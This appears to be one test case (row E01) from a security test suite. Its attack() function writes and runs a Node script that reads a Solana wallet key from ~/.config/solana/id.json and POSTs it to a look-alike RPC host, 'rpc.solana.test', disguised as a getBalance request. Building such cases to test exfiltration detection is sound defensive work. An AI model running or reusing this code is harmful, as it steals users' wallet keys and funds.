# SPDX-License-Identifier: Apache-2.0
TITLE="node reads a wallet key and posts it to a look-alike RPC host"
ROW="E01"
CLASS=wallet SECRET=.config/solana/id.json DEST='rpc.solana.test:80' NEEDS=node WEIGHT=heavy
attack() {
	cat >rpc.js <<-'END'
	const fs = require('fs'), http = require('http')
	const key = fs.readFileSync(process.env.HOME + '/.config/solana/id.json', 'utf8')
	const req = http.request({ host: 'rpc.solana.test', family: 4, method: 'POST', timeout: 5000 }, r => r.resume())
	req.on('error', e => { console.error(e.message); process.exit(1) })
	req.end(JSON.stringify({ method: 'getBalance', params: [key] }))
	END
	node rpc.js
}
